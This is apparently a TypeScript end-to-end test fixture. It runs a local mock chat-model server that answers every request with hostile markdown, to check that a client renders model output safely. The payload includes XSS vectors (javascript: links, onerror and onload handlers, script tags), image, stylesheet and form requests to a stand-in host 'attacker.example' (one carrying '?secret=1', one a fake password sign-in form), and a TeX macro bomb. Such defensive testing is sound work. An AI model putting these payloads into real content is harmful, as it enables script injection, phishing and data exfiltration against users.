import { createServer, type ServerResponse } from "node:http";
import { replyTo } from "@/e2e/upstream/reply";
import type { RecordedRequest } from "@/e2e/upstream/request";

/** Where hostile text tries to phone: nothing may ever be sent there. */
export const attacker = "https://attacker.example";

const fence = "```";

/** Markdown that tries to run, load or phone, and a sentence after each try that must still be readable. */
const hostileMarkdown = `# Hostile answer

[a script link](javascript:alert(1)) and [a data link](data:text/html,<script>alert(2)</script>) and [a vb link](vbscript:msgbox)

<img src=x onerror="alert(3)"> <script>alert(4)</script> <svg onload="alert(5)"></svg> <iframe src="${attacker}/frame"></iframe>

![a foreign image](${attacker}/pixel.png?secret=1) ![a data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDYpIi8+)

![a reference image][pixel] and [a reference link][pixel]

[pixel]: ${attacker}/reference.png "reference"

<link rel="stylesheet" href="${attacker}/style.css"> <style>@import url(${attacker}/import.css); * { display: none }</style>

<form action="${attacker}/form"><input name="password"><button>Sign in again</button></form>

Inline $\\href{javascript:alert(7)}{x}$ and $\\includegraphics{${attacker}/tex.png}$ and $\\url{javascript:alert(8)}$ and $\\htmlData{onclick=alert(9)}{y}$.

$$\\def\\bomb#1{#1#1#1#1#1#1#1#1}\\bomb{\\bomb{\\bomb{\\bomb{\\bomb{x}}}}}$$

| cell | other |
| --- | --- |
| <img src=${attacker}/cell.png onerror=alert(10)> | [x](javascript:alert(11)) |

<${attacker}/autolink> and ${attacker}/bare

${Array.from({ length: 60 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n")}

The last readable sentence of this answer.

${fence}html
<script>alert(12)</script>
This fence is never closed.
`;

export type HostileUpstream = { baseUrl: string; close(): Promise<void> };

/** A provider whose only model answers everything, also as judge and synthesizer, with hostile markdown. */
export async function startHostileUpstream(): Promise<HostileUpstream> {
  const server = createServer((incoming, response) => {
    if (incoming.method === "POST") return void answerHostile(response);
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify({ object: "list", data: [{ id: "hostile", object: "model" }] }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address ? address.port : 0;
  return {
    baseUrl: `http://127.0.0.1:${port}/v1`,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

async function answerHostile(response: ServerResponse): Promise<void> {
  const reply = replyTo(requestNamed("hostile"), response);
  reply.begin();
  await reply.say(hostileMarkdown);
  await reply.finish("stop");
  await reply.close();
}

function requestNamed(model: string): RecordedRequest {
  const request = { number: 1, method: "POST", path: "/v1/chat/completions", headers: {}, body: null };
  return { ...request, model, nth: 1, arrivedAt: 0, closedAt: null, sentAt: [], sentBytes: 0, aborted: false };
}
